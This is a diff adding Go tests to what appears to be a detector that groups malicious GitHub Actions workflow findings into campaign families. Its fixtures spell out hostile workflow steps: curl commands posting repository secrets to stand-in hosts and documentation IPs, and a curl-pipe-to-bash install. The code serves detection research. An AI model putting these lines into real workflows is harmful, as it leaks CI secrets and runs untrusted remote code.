@@ -11,6 +11,7 @@ import (
 
 	"pgregory.net/rapid"
 
+	"pentimento/internal/campaign"
 	"pentimento/internal/evidence"
 	"pentimento/internal/workflow"
 )
@@ -154,6 +155,78 @@ func TestFindingsJoinByStep(t *testing.T) {
 	hit.Campaign = "another"
 	if families = gather(version(a, "audit", ".github/workflows/a.yml"), hit); len(families) != 2 {
 		t.Errorf("findings of two packs are joined by a step: %+v", families)
+	}
+}
+
+// TestPacksAreNotJoinedByAThird: a finding of heuristics that is like those of two packs belongs to one of them.
+func TestPacksAreNotJoinedByAThird(t *testing.T) {
+	between := version(stealer("S", "j", "http://192.0.2.3", "A_TOKEN"), "x", listed)
+	between.Campaign = ""
+	families := gather(version(stealer("S", "j", "http://192.0.2.1 -k", "A_TOKEN"), "one", listed),
+		version(stealer("S", "j", "http://192.0.2.2 -v", "A_TOKEN"), "two", listed), between)
+	if len(families) != 2 {
+		t.Errorf("%d families: %+v", len(families), families)
+	}
+	for _, f := range families {
+		if len(f.Campaigns) > 1 {
+			t.Errorf("a family of %v", f.Campaigns)
+		}
+	}
+}
+
+// TestEverydayFilesAreNoRelatives: a finding that is no more than one command is the same as thousands of harmless files but for names and hosts.
+func TestEverydayFilesAreNoRelatives(t *testing.T) {
+	file := func(name, job, run string) string {
+		return "name: " + name + "\non: push\njobs:\n  " + job + ":\n    runs-on: ubuntu-latest\n    steps:\n      - run: " + run + "\n"
+	}
+	hook := "curl -X POST -d 'token=${{ secrets.%s }}' https://%s.example.net/deploy"
+	script := "curl -sSL https://%s.example.net/install.sh | bash"
+	for _, pair := range [][2]string{
+		{file("S", "steal", fmt.Sprintf(hook, "A_TOKEN", "drop")), file("Deploy", "deploy", fmt.Sprintf(hook, "DEPLOY_TOKEN", "hooks"))},
+		{file("S", "steal", fmt.Sprintf(script, "drop")), file("Setup", "setup", fmt.Sprintf(script, "get"))},
+	} {
+		for _, f := range gather(version(pair[0], "x", listed), version(pair[1], "", ".github/workflows/deploy.yml")) {
+			if len(f.Members) != 1 {
+				t.Errorf("relatives of one command: %+v", f.Members)
+			}
+		}
+	}
+}
+
+// TestWhatNobodyOwnsIsNoIndicator: the runner and its network, patterns, and how services call their interfaces.
+func TestWhatNobodyOwnsIsNoIndicator(t *testing.T) {
+	text := "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
+	for _, url := range []string{"http://localhost:8080/a/b/c", "http://127.0.0.1/a/b/c", "http://10.1.2.3/a/b/c", "http://redis:6379/a/b/c", "http://vault.corp.internal/a/b/c",
+		"https://*.com/a/b/c", "https://api.github.com/user/repos?per_page=100", "https://api.slack.com/api/chat.postMessage"} {
+		text += "          curl -d '${{ secrets.A }}' " + url + "\n"
+	}
+	for _, x := range version(text, "x", listed).Shape.leaky {
+		if x.Kind == URLPart || x.Kind == Host && !campaign.Service(x.Value) {
+			t.Errorf("%+v", x)
+		}
+	}
+}
+
+// TestSecretsNamedInTheEnvironment: a field that bears the name of the variable beside it is the same as one that bears the name of the secret.
+func TestSecretsNamedInTheEnvironment(t *testing.T) {
+	first := stealer("S", "j", "http://192.0.2.1", "A_TOKEN")
+	for _, by := range []string{"$A_TOKEN", "${A_TOKEN}"} {
+		second := strings.Replace(first, "        run: |\n          curl", "        env:\n          A_TOKEN: ${{ secrets.A_TOKEN }}\n        run: |\n          curl", 1)
+		second = strings.Replace(second, "=${{ secrets.A_TOKEN }}", "="+by, 1)
+		second = strings.Replace(strings.Replace(second, "192.0.2.1", "192.0.2.2", 1), "-d '", "-d \"", 1)
+		second = strings.Replace(second, "' http", "\" http", 1)
+		families := gather(version(first, "x", listed), version(second, "", listed))
+		if len(families) != 1 || len(families[0].Members) != 2 {
+			t.Errorf("%s: %+v", by, families)
+		}
+	}
+}
+
+// TestFindingsWithoutFeatures: of findings too short for a sketch the same one founds the family whatever comes first.
+func TestFindingsWithoutFeatures(t *testing.T) {
+	a, b := version("x\n", "x", listed), version("y\n", "x", listed)
+	if one, other := gather(a, b), gather(b, a); len(one) != 1 || len(other) != 1 || one[0].ID != other[0].ID {
+		t.Errorf("%+v, %+v", one, other)
 	}
 }
 
